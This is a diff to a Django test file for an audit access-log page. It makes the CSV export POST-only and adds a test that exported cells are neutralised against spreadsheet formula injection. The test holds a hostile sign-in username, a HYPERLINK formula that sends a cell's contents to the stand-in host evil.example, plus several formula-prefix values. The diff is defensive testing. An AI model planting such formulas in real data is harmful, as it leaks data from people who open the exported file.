@@ -1,5 +1,8 @@
 from __future__ import annotations
 
+import csv
+import io
+
 import pytest
 from django.core.management import call_command
 from django.core.management.base import CommandError
@@ -128,11 +131,35 @@ def test_administrator_browses_filters_and_exports(client, org):
     page = client.get(reverse("audit_access_log"), {"username": "counselor"})
     assert page.status_code == 200
     assert 'data-testid="access-log"' in page.text and "counselor" in page.text
-    export = client.get(reverse("audit_access_log_export"), {"action": "view"})
+    assert 'data-testid="access-log-export"' in page.text
+    assert '<input type="hidden" name="username" value="counselor">' in page.text
+    assert client.get(reverse("audit_access_log_export")).status_code == 405  # never a link
+    export = client.post(reverse("audit_access_log_export"), {"action": "view"})
     body = b"".join(export.streaming_content).decode("utf-8-sig")
     assert body.splitlines()[0].startswith("id,at,user_id,username")
     assert "counselor" in body
     assert AccessEvent.objects.filter(action=Action.EXPORT, username="administrator").exists()
+
+
+HOSTILE_USERNAME = '=HYPERLINK("http://evil.example/?d="&B2,"Open")'
+
+
+def test_a_hostile_sign_in_username_reaches_the_export_neutralised(client, org):
+    """Anyone on the internet types the username of a failed sign-in; the export must not
+    hand it to a spreadsheet as a formula."""
+    client.post(reverse("login"), {"username": HOSTILE_USERNAME, "password": "wrong"})
+    for prefix in ("+1", "-1+1", "@SUM(1)", "\t=1", "\r=1"):
+        record_access(action=Action.VIEW, username=prefix, detail=prefix)
+    login_staff(client, org.administrator)
+    export = client.post(reverse("audit_access_log_export"))
+    body = b"".join(export.streaming_content).decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(body)))
+    usernames = [row[3] for row in rows[1:]]
+    assert "'" + HOSTILE_USERNAME in usernames
+    assert {"'+1", "'-1+1", "'@SUM(1)", "'\t=1", "'\r=1"} <= set(usernames)
+    for row in rows:
+        for cell in row:
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
 
 
 def test_bad_filter_changes_nothing_and_shows_no_rows(client, org):
@@ -147,7 +174,7 @@ def test_bad_filter_changes_nothing_and_shows_no_rows(client, org):
 def test_only_administrators_see_the_log(client, org, role):
     login_staff(client, getattr(org, role))
     assert client.get(reverse("audit_access_log")).status_code in (302, 403)
-    assert client.get(reverse("audit_access_log_export")).status_code in (302, 403)
+    assert client.post(reverse("audit_access_log_export")).status_code in (302, 403)
     assert AccessEvent.objects.filter(action=Action.DENIED, username=role).count() == 2
 
 
